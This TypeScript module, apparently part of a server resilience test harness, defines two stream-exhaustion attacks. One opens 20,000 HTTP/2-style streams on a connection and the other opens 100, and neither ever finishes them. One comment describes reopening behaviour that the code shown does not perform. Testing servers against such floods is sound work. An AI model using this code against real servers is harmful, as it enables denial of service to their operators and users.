import { type Attack, callHeaders } from "./attack.js";

const STREAMS = 20_000;

/** 20,000 calls on one connection, none of which is ever finished. */
export const idleStreams: Attack = {
  name: "20,000 idle streams",
  connections: 2,
  async run(connection) {
    await connection.begin();
    for (let i = 0; i < STREAMS && connection.going; i += 100) {
      const frames = Array.from({ length: 100 }, (_, j) => callHeaders(2 * (i + j) + 1));
      await connection.write(Buffer.concat(frames), 100);
    }
    await connection.waitForEnd();
  },
};

/** As many as are allowed, and a new one for each that the server ends. */
export const allowedIdleStreams: Attack = {
  name: "100 idle streams",
  connections: 4,
  async run(connection) {
    await connection.begin();
    const frames = Array.from({ length: 100 }, (_, i) => callHeaders(2 * i + 1));
    await connection.write(Buffer.concat(frames), 100);
    await connection.waitForEnd();
  },
};
